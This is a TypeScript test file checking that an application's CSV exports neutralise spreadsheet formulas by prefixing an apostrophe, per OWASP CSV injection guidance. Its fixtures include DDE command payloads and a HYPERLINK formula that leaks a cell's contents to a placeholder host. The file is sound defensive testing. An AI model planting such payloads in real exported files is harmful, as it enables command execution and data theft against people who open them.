// CSV exports carry no formulas (OWASP CSV injection; spec 02 §3 export): a text cell that starts with =, +, -, @, a
// tab or a CR is written with a leading apostrophe, in the tree's and the call log's CSV alike. Each file is read
// back with csv-parse (not the writer's library); a number cell keeps its minus sign (the decision in csv-writer.ts).
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallLogEntry } from '../../repositories/call-log-repository.ts';
import type { ExportJobRow } from '../../repositories/export-job-repository.ts';
import { gql, login, startTestServer, type TestServer } from '../../test-support/test-server.ts';
import { inertCell } from './writers/csv-writer.ts';

let server: TestServer;
let admin: string;

/** The node names of the finding, each a formula a spreadsheet would run. */
const FORMULA_NAMES = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
const HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1;"Klick")';

function ended(id: number): Promise<ExportJobRow> {
  return new Promise((resolve) => {
    const check = (job: ExportJobRow | null) => {
      if (job?.id === id && ['Complete', 'Failed', 'Canceled'].includes(job.state)) {
        off();
        resolve(job);
      }
    };
    const off = server.services.exports.onChange(check);
    check(server.services.exports.get(id));
  });
}

/** Starts an export, waits for it and reads the file back as rows keyed by the header. */
async function exported(mutation: string): Promise<Array<Record<string, string>>> {
  const res = await gql(server, mutation, {}, { cookie: admin });
  const job = Object.values(res.body.data ?? {})[0] as { id: number } | undefined;
  expect(res.body.errors).toBeUndefined();
  expect((await ended(job!.id)).state).toBe('Complete');
  const file = await fetch(`${server.url}/backend/exports/${job!.id}/file`, { headers: { cookie: admin } });
  const body = Buffer.from(await file.arrayBuffer());
  return parse(body, { delimiter: ';', bom: true, columns: true }) as Array<Record<string, string>>;
}

const call = (callId: number, over: Partial<CallLogEntry>): CallLogEntry => ({
  system_id: 1,
  call_id: callId,
  opened_at: '2025-01-06T07:30:00.000Z',
  closed_at: '2025-01-06T07:31:00.000Z',
  duration: 60,
  call_type_id: 4,
  call_type_text: 'Patientenruf',
  call_source_id: null,
  call_source_text: null,
  section_id: 1,
  section_name: 'Wohnbereich 1',
  device_number: 23,
  device_text_short: '101',
  device_text_long: 'Zimmer 101',
  is_presence: false,
  handled_by: null,
  position: null,
  call_type_flag: 'none',
  urgency: 'NORMAL',
  ...over,
});

beforeAll(async () => {
  server = await startTestServer();
  admin = (await login(server, 'admin', 'admin')).cookie!;
  for (const name of FORMULA_NAMES) {
    const res = await gql(
      server,
      `mutation($input: SystemTreeNodeInput!) { createSystemTreeNode(input: $input) { id } }`,
      { input: { kind: 'room', parent_id: 2, name } },
      { cookie: admin },
    );
    expect(res.body.errors).toBeUndefined();
  }
  server.services.callLog.record(call(1, { handled_by: HYPERLINK }));
  server.services.callLog.record(
    call(2, { device_text_long: '\tZimmer 102', section_name: '\rWohnbereich', duration: -5 }),
  );
});
afterAll(() => server.close());

describe('CSV cells are inert (OWASP CSV injection)', () => {
  it('the tree export: formula names come out as text, with an apostrophe, in the name and parent columns', async () => {
    const rows = await exported('mutation { exportSystemTree(format: CSV) { id } }');
    const names = rows.map((r) => r.Name);
    for (const name of FORMULA_NAMES) expect(names).toContain(`'${name}`);
    expect(names).toContain('1. Stock'); // an ordinary name is left as it is
    // no cell of the file starts with a formula character
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the call log export: a user named =HYPERLINK(…) who ended a call, a tab and a CR first in texts', async () => {
    const rows = await exported('mutation { exportCallLog(format: CSV) { id } }');
    const byDevice = new Map(rows.map((r) => [r['Gerät (kurz)'], r]));
    expect(byDevice.get('101')?.['Bearbeitet von']).toBe(`'${HYPERLINK}`);
    const second = rows.find((r) => r.Gerät?.endsWith('Zimmer 102'));
    expect(second?.Gerät).toBe("'\tZimmer 102");
    expect(second?.Bereich).toBe("'\rWohnbereich");
    // a number keeps its sign and stays a number
    expect(second?.['Dauer (s)']).toBe('-5');
  });

  it('each formula character, and nothing else, is neutralised', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(inertCell(`${start}1`)).toBe(`'${start}1`);
    for (const text of ['Zimmer 1', ' =1', "'=1", 'a=b', '1-2', '']) expect(inertCell(text)).toBe(text);
    expect(inertCell(-5)).toBe(-5);
    expect(inertCell(null)).toBe('');
  });
});
